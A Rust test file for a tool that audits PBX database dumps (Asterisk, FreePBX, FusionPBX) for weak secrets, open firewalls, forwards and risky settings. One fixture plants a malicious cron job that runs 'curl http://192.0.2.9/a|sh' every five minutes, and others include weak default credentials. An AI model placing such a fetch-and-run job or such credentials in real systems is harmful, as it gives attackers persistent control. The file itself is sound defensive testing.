//! Accounts and trunks that only tables tell of.

use super::super::dialplan::Pin;
use super::super::model::{Pbx, SecretStrength, Technology};
use super::super::tests::read_texts;

/// Returns `name technology context strength` of each account, and the trunks' names with their hosts.
fn told(pbx: &Pbx) -> (Vec<String>, Vec<String>) {
    let accounts = pbx.accounts.iter().map(|held| {
        format!(
            "{} {:?} {} {:?}",
            held.name,
            held.technology,
            held.context.as_deref().unwrap_or("-"),
            held.secret
        )
    });
    let trunks = pbx.trunks.iter().map(|held| format!("{} {:?} {:?}", held.name, held.networks, held.hosts));
    (accounts.collect(), trunks.collect())
}

const PANEL: &str = "-- MySQL dump 10.13
INSERT INTO `manager` VALUES (1,'cxpanel','hidden-secret-9','0.0.0.0/0.0.0.0','127.0.0.1/255.255.255.0','all','all',100);
INSERT INTO `pjsip` VALUES ('1','aor_contact','sip:198.51.100.20:5060',7),('1','context','from-pstn',3),('1','trunk_name','carrier',0);
INSERT INTO `sip` VALUES ('301','account','301',2),('301','callerid','Ext 301 <301>',6),('301','context','from-internal',7),('301','deny','0.0.0.0/0.0.0.0',3),('301','permit','10.0.0.0/8',3),('301','secret','301',18),('301','sipdriver','chan_pjsip',21),
('302','account','302',2),('302','context','from-internal',7),('302','host','dynamic',4),('302','secret','wQ9hidden-secret7Zk',18),('302','type','friend',5),('302','callerid','device <302>',6),
('tr-peer-2','account','oldcarrier',2),('tr-peer-2','host','sip.carrier.example',3),('tr-peer-2','type','peer',4),('tr-peer-2','secret','hidden-secret-1',5),
('tr-reg-2','register','me:hidden-secret-1@sip.carrier.example',0);
";

#[test]
fn a_panels_tables_tell_accounts_where_no_file_does() {
    let pbx = read_texts(&[("backup/asterisk.sql", PANEL)]);
    let (accounts, trunks) = told(&pbx);
    assert_eq!(accounts, ["301 Pjsip from-internal Some(Default)", "302 Sip from-internal Some(Fair)"]);
    assert_eq!(trunks, ["carrier [198.51.100.20/32] []", "oldcarrier [] [\"sip.carrier.example\"]"]);
    let first = pbx.accounts.first().expect("an account");
    assert_eq!(first.permit.iter().map(ToString::to_string).collect::<Vec<_>>(), ["10.0.0.0/8"]);
    assert_eq!(first.display_name.as_deref(), Some("Ext 301"));
    assert_eq!((first.place.place.line, first.place.text.as_ref()), (4, b"table sip: 301".as_slice()));
    let manager = pbx.manager_users.first().expect("a manager user");
    assert!(manager.can_originate && manager.name == "cxpanel");
    assert!(!format!("{pbx:?}").contains("hidden-secret"));
}

#[test]
fn rows_that_cannot_be_read_are_told() {
    let pbx = read_texts(&[("a.sql", &format!("{PANEL}INSERT INTO `sip` VALUES ('303','secret','cut\n"))]);
    let problems: Vec<&str> = pbx.problems.iter().map(|problem| problem.what.as_str()).collect();
    assert_eq!(problems, ["rows of accounts that cannot be read: 1, the first at line 8"]);
    assert_eq!(pbx.accounts.len(), 2);
}

#[test]
fn files_outweigh_the_tables_that_they_are_made_from() {
    let files = "[general]\n[301]\ntype=friend\nhost=dynamic\nsecret=x9Kq27ZpLw\ncontext=inside\n";
    let pbx = read_texts(&[("backup/asterisk.sql", PANEL), ("etc/asterisk/sip.conf", files)]);
    assert_eq!(told(&pbx).0, ["301 Sip inside Some(Fair)"]);
    assert!(pbx.problems.iter().any(|problem| problem.path == "backup/asterisk.sql"));
}

#[test]
fn realtime_tables_add_to_the_files() {
    let files = "[general]\n[301]\ntype=friend\nhost=dynamic\nsecret=x9Kq27ZpLw\ncontext=inside\n";
    let tables = "-- MySQL dump 10.13
INSERT INTO `sippeers` (`id`,`name`,`host`,`type`,`context`,`secret`,`permit`,`ipaddr`,`port`) VALUES (1,'401','dynamic','friend','staff','4711',NULL,'192.0.2.44',5062),(2,'301','dynamic','friend','other','1',NULL,'','0');
INSERT INTO `ps_endpoints` (`id`,`aors`,`auth`,`context`,`callerid`) VALUES ('501','501','501a','inside','A <501>'),('trunk','trunk',NULL,'outside',NULL);
INSERT INTO `ps_auths` (`id`,`auth_type`,`password`,`username`) VALUES ('501a','userpass','hidden-secret-22','501');
INSERT INTO `ps_contacts` (`id`,`uri`,`expiration_time`,`user_agent`,`endpoint`) VALUES ('501^3B@d6ee','sip:501@198.51.100.7:49152^3Bob',1779258600,'Linphone','501');
INSERT INTO `ps_aors` (`id`,`contact`) VALUES ('501',NULL),('trunk','sip:203.0.113.35:5060');
";
    let pbx = read_texts(&[
        ("etc/asterisk/sip.conf", files),
        ("etc/asterisk/extconfig.conf", "[settings]\nsippeers => mysql,asterisk,sippeers\n"),
        ("dump.sql", tables),
    ]);
    let (accounts, trunks) = told(&pbx);
    assert_eq!(
        accounts,
        ["301 Sip inside Some(Fair)", "401 Sip staff Some(Weak)", "501 Pjsip inside Some(Fair)"]
    );
    assert_eq!(trunks, ["trunk [203.0.113.35/32] []"]);
    let bound: Vec<String> = pbx
        .bindings
        .iter()
        .map(|held| format!("{} {:?} {:?}", held.account, held.address, held.port))
        .collect();
    assert_eq!(bound, ["401 Some(192.0.2.44) Some(5062)", "501 Some(198.51.100.7) Some(49152)"]);
    assert!(!pbx.problems.iter().any(|problem| problem.what.contains("kept in a database")));
    assert!(!format!("{pbx:?}").contains("hidden-secret"));
}

#[test]
fn fusionpbx_tells_extensions_and_gateways() {
    let tables = "--\n-- PostgreSQL database dump\n--\n
COPY public.v_extensions (extension_uuid, domain_uuid, extension, password, user_context, cidr, enabled) FROM stdin;
a\td1\t1001\t1001\tone.example\t\\N\ttrue
b\td2\t1001\thidden-Secret22\ttwo.example\t192.0.2.0/24\ttrue
c\td2\t1002\tx\ttwo.example\t\\N\tfalse
\\.
COPY public.v_gateways (gateway_uuid, gateway, proxy, password, enabled) FROM stdin;
g\tcarrier\t198.51.100.7:5060\thidden-secret\ttrue
\\.
";
    let pbx = read_texts(&[("fusionpbx.sql", tables)]);
    let (accounts, trunks) = told(&pbx);
    assert_eq!(accounts, ["1001 Sofia one.example Some(Default)", "1001 Sofia two.example Some(Fair)"]);
    assert_eq!(trunks, ["carrier [198.51.100.7/32] []"]);
    assert!(pbx.accounts.iter().all(|account| account.technology == Technology::Sofia));
    assert!(pbx.accounts.iter().any(|account| account.secret == Some(SecretStrength::Default)));
    assert!(!format!("{pbx:?}").contains("hidden"));
}

const OWN_TABLES: &str = "-- MySQL dump 10.13
INSERT INTO `ampusers` (`username`,`password_sha1`,`sections`) VALUES ('admin','d033e22ae348aeb5660fc2140aec35850c4da997','*'),('ampuser','0123456789abcdef0123456789abcdef01234567','cdr;recordings');
INSERT INTO `userman_users` (`id`,`username`,`password`) VALUES (1,'1001','$2a$08$hidden-secret'),(2,'boss','$2a$08$hidden-secret');
INSERT INTO `userman_users_settings` (`uid`,`module`,`key`,`val`,`type`) VALUES (1,'global','pbx_login','0',NULL),(2,'global','pbx_login','1',NULL),(2,'global','pbx_modules','[\"*\"]','json-arr');
INSERT INTO `outbound_routes` (`route_id`,`name`,`password`) VALUES (1,'local',''),(2,'world','4711');
INSERT INTO `outbound_route_patterns` (`route_id`,`match_pattern_prefix`,`match_pattern_pass`,`match_cid`,`prepend_digits`) VALUES (1,'','NXXXXXX','','34'),(2,'9','00.','',''),(2,'','911','20X','');
INSERT INTO `outbound_route_trunks` (`route_id`,`trunk_id`,`seq`) VALUES (2,9,1),(2,3,0);
INSERT INTO `outbound_route_sequence` (`route_id`,`seq`) VALUES (2,0),(1,1);
INSERT INTO `trunks` (`trunkid`,`name`,`tech`,`failscript`,`channelid`,`disabled`) VALUES (3,'Carrier','pjsip','','carrier-main','off');
INSERT INTO `incoming` (`cidnum`,`extension`,`destination`) VALUES ('','','ext-group,600,1'),('','34911','disa,1,1');
INSERT INTO `cron_jobs` (`modulename`,`jobname`,`command`,`class`,`schedule`,`max_runtime`,`enabled`,`execution_order`) VALUES ('sysadmin','xq7','curl http://192.0.2.9/a|sh',NULL,'*/5 * * * *',30,1,100),('backup','b','mysqldump -phidden-secret-3 asterisk',NULL,'1 2 * * *',30,0,100),('framework','updates',NULL,'FreePBX\\\\Job','1 2 * * *',30,1,100);
INSERT INTO `freepbx_settings` (`keyword`,`value`) VALUES ('AUTHTYPE','none'),('AMPMGRPASS','hidden-secret-2');
INSERT INTO `users` (`extension`,`password`,`name`,`outboundcid`) VALUES ('301','','Front desk','');
INSERT INTO `modules` (`id`,`modulename`,`version`,`enabled`) VALUES (1,'firewall','15.0.1',0);
";

#[test]
fn what_a_panel_keeps_to_itself_is_told_even_where_files_tell_the_accounts() {
    let files = "[general]\n[301]\ntype=friend\nhost=dynamic\nsecret=x9Kq27ZpLw\ncontext=inside\n";
    let pbx = read_texts(&[("asterisk.sql", OWN_TABLES), ("etc/asterisk/sip.conf", files)]);
    let panel = &pbx.panel;
    let users: Vec<String> = panel
        .users
        .iter()
        .map(|user| format!("{} {} {} {:?}", user.table, user.name, user.is_administrator, user.sections))
        .collect();
    assert_eq!(
        users,
        [
            "ampusers admin true [\"*\"]",
            "ampusers ampuser false [\"cdr\", \"recordings\"]",
            "userman_users boss true [\"*\"]"
        ]
    );
    let routes: Vec<String> = panel
        .outbound_routes
        .iter()
        .map(|route| {
            let patterns = route.patterns.iter();
            let patterns: Vec<String> = patterns
                .map(|one| format!("({}){}|{}/{}", one.prepend, one.strip, one.pass, one.caller))
                .collect();
            format!("{} {} {patterns:?} {:?} {}", route.id, route.name, route.trunks, route.asks_for_pin)
        })
        .collect();
    assert_eq!(
        routes,
        [
            "2 world [\"()9|00./\", \"()|911/20X\"] [\"carrier-main\", \"trunk 9\"] true",
            "1 local [\"(34)|NXXXXXX/\"] [] false"
        ]
    );
    let jobs: Vec<&[u8]> = panel.jobs.iter().map(|job| job.place.text.as_ref()).collect();
    assert_eq!(
        String::from_utf8_lossy(jobs[0]),
        "table cron_jobs: modulename=sysadmin jobname=xq7 command=curl http://192.0.2.9/a|sh schedule=*/5 * * * * enabled=1"
    );
    assert!(
        String::from_utf8_lossy(jobs[1]).contains("mysqldump -p*** asterisk") && !panel.jobs[1].is_enabled
    );
    assert_eq!((panel.jobs[2].class.as_str(), panel.jobs[2].command.as_str()), ("FreePBX\\Job", ""));
    assert_eq!(panel.inbound_routes[1].destination, "disa,1,1");
    assert_eq!(panel.trunks[0].channel, "carrier-main");
    assert!(!panel.modules[0].is_enabled);
    let settings: Vec<&str> = panel.settings.iter().map(|held| held.keyword.as_str()).collect();
    assert_eq!(settings, ["AUTHTYPE"]);
    let issabel = read_texts(&[("a.sql", &OWN_TABLES.replace("freepbx_settings", "issabelpbx_settings"))]);
    assert_eq!(issabel.panel.settings.len(), 1);
    assert_eq!(pbx.accounts[0].display_name.as_deref(), Some("Front desk"));
    assert!(!format!("{pbx:?}").contains("hidden-secret"));
}

#[test]
fn forwards_of_panels_are_told_where_they_are_switched_on() {
    let dump = "-- MySQL dump 10.13
INSERT INTO `findmefollow` (`grpnum`,`strategy`,`grplist`) VALUES ('301','ringallv2','301-0025261200000#-302'),('302','hunt','302');
INSERT INTO `ringgroups` (`grpnum`,`grplist`) VALUES ('600','301-302-+37181426150#');
INSERT INTO `miscdests` (`id`,`description`,`destdial`) VALUES (1,'night service','0088299800234');
INSERT INTO `v_extensions` (`extension`,`password`,`forward_all_enabled`,`forward_all_destination`,`forward_busy_enabled`,`forward_busy_destination`,`follow_me_uuid`,`follow_me_enabled`) VALUES ('401','w','true','0025261200001','false','0025261200002','u1','true'),('402','w',NULL,'0025261200003',NULL,NULL,'u2','false');
INSERT INTO `v_follow_me_destinations` (`follow_me_uuid`,`follow_me_destination`) VALUES ('u1','0025261200004'),('u1','402'),('u2','0025261200005');
";
    let pbx = read_texts(&[("backup/asterisk.sql", dump)]);
    let told: Vec<String> =
        pbx.forwards.iter().map(|held| format!("{} {} {}", held.account, held.when, held.number)).collect();
    assert_eq!(
        told,
        [
            "301 by follow-me 0025261200000",
            "600 by its ring group +37181426150",
            "night service as a miscellaneous destination 0088299800234",
            "401 always 0025261200001",
            "401 by follow-me 0025261200004",
        ]
    );
    let first = pbx.forwards.first().expect("a forward");
    assert_eq!(first.place.text.as_ref(), b"table findmefollow: grpnum=301 grplist=301-0025261200000#-302");
}

#[test]
fn second_dial_tones_of_a_panel_are_told_without_their_pins() {
    let dump = "-- MySQL dump 10.13
INSERT INTO `disa` (`disa_id`,`displayname`,`pin`,`context`) VALUES (1,'boss','','from-internal'),(2,'sales','8302957164,1234','from-internal');
";
    let pbx = read_texts(&[("backup/asterisk.sql", dump)]);
    let told: Vec<_> = pbx.panel.tones.iter().map(|tone| (tone.name.as_str(), tone.pin)).collect();
    assert_eq!(told[0], ("boss", Pin::None));
    assert!(matches!(told[1], ("sales", Pin::Weak(_))));
    assert!(!format!("{:?}", pbx.panel).contains("8302957164"));
}

/// FreePBX 17 with a route for office hours whose group was emptied, and a firewall opened wide.
const LIMITS: &str = r#"-- MySQL dump 10.13
INSERT INTO `outbound_routes` (`route_id`,`name`,`password`,`time_group_id`,`time_mode`) VALUES (1,'local','',NULL,''),(2,'world','',4,'time-group'),(3,'day','',5,''),(4,'planned','',4,'calendar-group'),(5,'lost','',9,'');
INSERT INTO `timegroups_groups` (`id`,`description`) VALUES (4,'Office'),(5,'Days');
INSERT INTO `timegroups_details` (`id`,`timegroupid`,`time`) VALUES (1,5,'09:00-17:00|mon-fri|*|*'),(2,5,'09:00-12:00|sat|*|*');
INSERT INTO `modules` (`id`,`modulename`,`version`,`enabled`) VALUES (1,'firewall','17.0.1',1);
INSERT INTO `kvstore_FreePBX_modules_Firewall` (`key`,`val`,`type`,`id`) VALUES ('status','1',NULL,'noid'),('networkmaps','{\"10.0.0.0\\/8\":\"trusted\",\"0.0.0.0\\/0\":\"trusted\"}','json-arr','noid'),('servicesettings','{\"sip\":[\"external\"],\"provis\":[\"other\",\"external\"],\"tftp\":[\"internal\"]}','json-arr','noid');
"#;

#[test]
fn limits_that_limit_nothing_are_told() {
    let pbx = read_texts(&[("asterisk.sql", LIMITS)]);
    let times = |route: &crate::pbx::OutboundRoute| {
        let group = route.times.as_ref().map(|times| format!("{} {}", times.name, times.times));
        format!("{} {}", route.name, group.unwrap_or_default())
    };
    let routes: Vec<String> = pbx.panel.outbound_routes.iter().map(times).collect();
    // A group that the dump does not have is not called empty.
    assert_eq!(routes, ["local ", "world Office 0", "day Days 2", "planned ", "lost "]);
    use crate::pbx::GuardGap;
    let mut gaps: Vec<GuardGap> = pbx.panel.firewall.iter().map(|guard| guard.open.clone()).collect();
    gaps.sort();
    let open = GuardGap::Services(vec!["provis".to_owned(), "sip".to_owned()]);
    assert_eq!(gaps, [GuardGap::TrustsAll, open]);
    let off = LIMITS.replace("'17.0.1',1", "'17.0.1',0").replace("'status','1'", "'status','0'");
    let pbx = read_texts(&[("asterisk.sql", &off)]);
    assert_eq!(pbx.panel.firewall.iter().filter(|guard| guard.open == GuardGap::Off).count(), 2);
}

#[test]
fn hashes_that_are_not_tried_are_counted_by_table() {
    let pbx = read_texts(&[("asterisk.sql", OWN_TABLES)]);
    let told: Vec<&str> = pbx.problems.iter().map(|problem| problem.what.as_str()).collect();
    let wanted = "not checked: the secrets of 2 panel users, of which only salted hashes are kept (bcrypt in userman_users)";
    assert!(told.iter().any(|what| what.starts_with(wanted)), "{told:?}");
}

#[test]
fn what_everybody_tries_first_is_tried_on_slow_hashes() {
    // Of an extension, of a common password and of neither, made by `crypt(3)` with the cost 4.
    let dump = "-- MySQL dump 10.13\nINSERT INTO `userman_users` (`id`,`username`,`password`,`default_extension`) VALUES (1,'ann','$2y$04$Qw8rTzUpLkJhGfDsAyXc.uV8enlCNsJKVyCi/uvhXKKD1K3qpz4ua','1001'),(2,'bob','$2y$04$mNbVcXyAsDfGhJkLpOiU.OuUpU6kBIahYo5.gO24Csd..fekwninu','1002'),(3,'cy','$2b$04$zXcVbNmLkJhGfDsApQwE.uFU71DgsDPFRESNocF8dNJIaWyj9uFMy','1003');\n";
    let pbx = read_texts(&[("asterisk.sql", dump)]);
    let told: Vec<(&str, bool)> =
        pbx.held_secrets.iter().map(|held| (held.owner.as_str(), !held.weaknesses.is_empty())).collect();
    assert_eq!(told, [("ann", true), ("bob", true), ("cy", false)]);
    assert_eq!(pbx.held_secrets[0].gravest(), Some(crate::pbx::Weakness::EqualsName));
    let problem = pbx.problems.iter().find(|problem| problem.what.contains("bcrypt in userman_users"));
    let what = &problem.expect("what was tried").what;
    assert!(what.starts_with("not checked in full: the secrets of 1 panel users"), "{what}");
    assert!(!format!("{pbx:?}").contains("changeme"));
}
